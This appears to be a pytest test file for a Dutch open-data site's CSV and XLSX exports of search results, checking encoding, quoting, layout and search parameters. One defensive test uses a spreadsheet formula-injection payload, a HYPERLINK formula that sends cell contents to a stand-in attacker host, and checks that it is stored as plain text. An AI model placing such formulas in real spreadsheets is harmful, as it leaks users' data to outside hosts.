"""Open data that works in Dutch spreadsheets (issue 17): the CSV opens in
columns in a Dutch Excel, the XLSX holds the same data, both follow the
search's parameters and limits, and the search page links them."""

import csv
import datetime
import io
import re
import tracemalloc
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from django.urls import reverse
from django.utils import timezone

from explore import exports
from practices.models import PracticePage
from search.query import Hit, SearchResults
from search.service import update_index
from tests.factories import PracticePageFactory

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"
HEADINGS = [
    "Titel",
    "Samenvatting",
    "Webadres",
    "Provincie",
    "Provincie (code)",
    "Zorgkantoorregio",
    "Zorgkantoorregio (code)",
    "Thema",
    "Thema (code)",
    "Organisatie",
    "Organisatie (code)",
    "Beweging",
    "Beweging (code)",
    "Doelgroep",
    "Doelgroep (code)",
    "Type organisatie",
    "Type organisatie (code)",
    "Fase",
    "Fase (code)",
    "Niveau",
    "Niveau (code)",
    "Overgenomen",
    "Overgenomen (code)",
    "Overgenomen (aantal)",
    "Overgenomen door",
    "Voor het eerst gepubliceerd",
    "Laatst bijgewerkt",
    "ID",
]
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def published(**kwargs):
    practice = PracticePageFactory(**kwargs)
    practice.save_revision().publish()
    update_index("practice", [practice.pk])
    return practice


def csv_table(response):
    """The CSV's rows, read the way a Dutch spreadsheet reads them."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM)
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    return load_workbook(io.BytesIO(response.content))


def records(table):
    return [dict(zip(table[0], row, strict=True)) for row in table[1:]]


@pytest.fixture
def awkward_practice():
    """A practice whose text has everything a CSV must quote."""
    return published(
        title='Zorg; thuis "dichtbij" – coöperatie',
        summary="Eerste regel; met puntkomma.\nTweede regel met ‘aanhalingstekens’.",
        provinces=["fryslan", "groningen"],
        themes=["acute-zorg", "ouderen-thuis"],
        target_groups=["kwetsbare-ouderen"],
    )


def test_the_csv_opens_in_columns_in_a_dutch_spreadsheet(client, awkward_practice):
    response = client.get(reverse("api_practices_csv"), {"q": "coöperatie dichtbij"})
    content = response.content

    # A byte order mark, so Excel reads UTF-8 ("coöperatie", not "coÃ¶peratie").
    assert content.startswith(BOM)
    assert "coöperatie".encode() in content
    # Semicolons between the headings, every line ending in CRLF.
    first_line = content[len(BOM) : content.index(b"\r\n")].decode()
    assert first_line == ";".join(HEADINGS)
    assert content.endswith(b"\r\n")
    # A field with a semicolon, a quote or a line break is quoted, quotes doubled.
    assert b'"Zorg; thuis ""dichtbij"" \xe2\x80\x93 co\xc3\xb6peratie"' in content
    assert b'"Eerste regel; met puntkomma.\nTweede regel' in content

    table = csv_table(response)
    assert table[0] == HEADINGS
    row = next(r for r in records(table) if r["ID"] == str(awkward_practice.pk))
    assert row["Titel"] == awkward_practice.title
    assert row["Samenvatting"] == awkward_practice.summary
    assert len(table[1]) == len(HEADINGS)


def test_each_facet_has_its_labels_beside_its_codes(client, awkward_practice):
    table = csv_table(
        client.get(reverse("api_practices_csv"), {"q": "coöperatie dichtbij"})
    )
    row = next(r for r in records(table) if r["ID"] == str(awkward_practice.pk))
    assert row["Provincie"].split(" | ") == ["Fryslân", "Groningen"]
    assert row["Provincie (code)"].split(" | ") == ["fryslan", "groningen"]
    assert sorted(row["Thema (code)"].split(" | ")) == ["acute-zorg", "ouderen-thuis"]
    assert "Acute zorg" in row["Thema"].split(" | ")
    assert row["Doelgroep (code)"] == "kwetsbare-ouderen"
    assert (row["Fase"], row["Fase (code)"]) == ("Lopend", "lopend")
    assert row["Zorgkantoorregio"] == row["Zorgkantoorregio (code)"] == ""
    # Dates as ISO 8601 days in the Netherlands; the address on the base URL.
    day = timezone.localtime(awkward_practice.first_published_at).date()
    assert row["Voor het eerst gepubliceerd"] == day.isoformat()
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["Laatst bijgewerkt"])
    assert row["Webadres"] == "http://testserver" + awkward_practice.url


def test_the_xlsx_holds_the_same_data_as_the_csv(client, awkward_practice):
    params = {"thema": "acute-zorg", "sort": "title"}
    table = csv_table(client.get(reverse("api_practices_csv"), params))
    response = client.get(reverse("api_practices_xlsx"), params)
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert 'rel="license"' in response["Link"]
    sheet = workbook(response).active

    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADINGS
    assert len(rows) == len(table) > 2

    def as_csv(value):
        if value is None:
            return ""
        if isinstance(value, datetime.datetime):
            return value.date().isoformat()
        return str(value)

    assert [[as_csv(value) for value in row] for row in rows] == table


def test_the_xlsx_is_laid_out_for_reading(client, awkward_practice):
    response = client.get(reverse("api_practices_xlsx"), {"q": "coöperatie"})
    sheet = workbook(response).active
    assert sheet.title == "Praktijkvoorbeelden"
    assert sheet.freeze_panes == "B2"  # the headings and the titles stay
    assert all(cell.font.b for cell in sheet[1])
    last_column = get_column_letter(len(HEADINGS))
    assert sheet.auto_filter.ref == f"A1:{last_column}{sheet.max_row}"
    assert sheet.column_dimensions["A"].width == 45  # the title
    assert sheet.column_dimensions["B"].width == 70  # the summary
    published_cell = sheet.cell(row=2, column=HEADINGS.index("Laatst bijgewerkt") + 1)
    assert isinstance(published_cell.value, datetime.datetime)
    assert published_cell.number_format == "yyyy-mm-dd"
    assert sheet.cell(row=2, column=len(HEADINGS)).value == awkward_practice.pk


def test_the_xlsx_stores_a_formula_like_title_as_text(client):
    title = '=HYPERLINK("http://evil.example/?d="&A1,"Formulexlsx")'
    practice = published(title=title, summary="#N/A Formulexlsx")
    response = client.get(reverse("api_practices_xlsx"), {"q": "Formulexlsx"})

    sheet = workbook(response).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[-1].value == practice.pk)
    assert row[0].value == title and row[0].data_type == "s"
    assert row[1].value == "#N/A Formulexlsx" and row[1].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_text_a_spreadsheet_cannot_hold_does_not_break_the_xlsx(client):
    practice = published(title="Bel\x07 en tab\x0b Controletekens", summary="Stil")
    response = client.get(reverse("api_practices_xlsx"), {"q": "Controletekens"})
    sheet = workbook(response).active
    titles = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "Bel en tab Controletekens" in titles
    assert PracticePage.objects.filter(pk=practice.pk).exists()


@pytest.mark.parametrize("name", ["api_practices_csv", "api_practices_xlsx"])
def test_the_files_read_the_search_parameters(client, name):
    # The same practices as the JSON API, in the same order.
    params = {"thema": "acute-zorg", "provincie": "zuid-holland", "sort": "title"}
    api = client.get(reverse("api_practices"), {**params, "page_size": 100}).json()
    expected = [record["id"] for record in api["results"]]
    assert 0 < len(expected) == api["count"]
    response = client.get(reverse(name), params)
    if name == "api_practices_csv":
        ids = [int(row["ID"]) for row in records(csv_table(response))]
    else:
        ids = [row[-1] for row in workbook(response).active.iter_rows(min_row=2)]
        ids = [cell.value for cell in ids]
    assert ids == expected

    # Bad input: the API's 400 with the reasons; a merged slug: a redirect.
    bad = client.get(reverse(name), {"fase": "bestaat-niet"})
    assert bad.status_code == 400
    assert bad.json()["errors"][0]["param"] == "fase"


@pytest.mark.parametrize("name", ["api_practices_csv", "api_practices_xlsx"])
def test_the_files_hold_at_most_the_result_window(client, monkeypatch, name):
    monkeypatch.setattr(exports, "MAX_RESULT_WINDOW", 3)
    response = client.get(reverse(name))
    if name == "api_practices_csv":
        assert len(csv_table(response)) == 1 + 3
    else:
        assert workbook(response).active.max_row == 1 + 3


@pytest.mark.slow
def test_ten_thousand_rows_of_xlsx_stay_small_in_memory(client, monkeypatch):
    """openpyxl's write-only mode keeps a row, not the workbook: 10,000 rows
    are written in a few MB above the hits themselves."""
    now = timezone.now()
    hits = [
        Hit(
            kind="practice",
            id=number,
            title=f"Praktijk {number}",
            url=f"/praktijkvoorbeelden/praktijk-{number}/",
            summary="Een samenvatting van een regel of twee, zoals op een kaart. " * 3,
            highlight="",
            facets={
                "provincie": [("utrecht", "Utrecht")],
                "thema": [("acute-zorg", "Acute zorg"), ("ggz", "GGZ")],
                "fase": [("lopend", "Lopend")],
            },
            published_at=now,
            updated_at=now,
        )
        for number in range(10_000)
    ]

    def search(query):
        assert query.page_size == 10_000
        return SearchResults(query=query, total=len(hits), hits=hits, facets=[])

    monkeypatch.setattr(exports, "search", search)
    tracemalloc.start()
    try:
        response = client.get(reverse("api_practices_xlsx"))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    sheet = workbook(response).active
    assert sheet.max_row == 10_001
    assert peak < 40 * 1024 * 1024, f"{peak / 1024 / 1024:.0f} MB"


# The search page links the files for its own search -------------------------------


def test_the_search_page_offers_the_results_as_a_spreadsheet(client):
    params = {"q": "zorg", "thema": "acute-zorg", "sort": "title"}
    html = client.get(reverse("search"), params).content.decode()
    assert "Download als spreadsheet" in html
    links = {
        kind: url
        for url, kind in re.findall(
            r'href="(/api/v1/practices\.(csv|xlsx)\?[^"]*)" download', html
        )
    }
    assert set(links) == {"csv", "xlsx"}
    for url in links.values():
        query = url.split("?", 1)[1].replace("&amp;", "&")
        assert sorted(query.split("&")) == [
            "q=zorg",
            "sort=title",
            "thema=acute-zorg",
        ]
        assert client.get(url.replace("&amp;", "&")).status_code == 200
    assert 'href="/open-data/"' in html


def test_the_links_follow_the_filters_htmx_changes(client):
    """htmx swaps the results region alone: the links are inside it."""
    html = client.get(
        reverse("search"),
        {"provincie": "zeeland"},
        HTTP_HX_REQUEST="true",
        HTTP_HX_TARGET="search-region",
    ).content.decode()
    assert "<html" not in html
    assert 'href="/api/v1/practices.xlsx?provincie=zeeland" download' in html
    assert 'href="/api/v1/practices.csv?provincie=zeeland" download' in html


def test_no_download_for_a_search_that_finds_nothing(client):
    html = client.get(reverse("search"), {"q": "qqqxyzzy"}).content.decode()
    assert "Download als spreadsheet" not in html
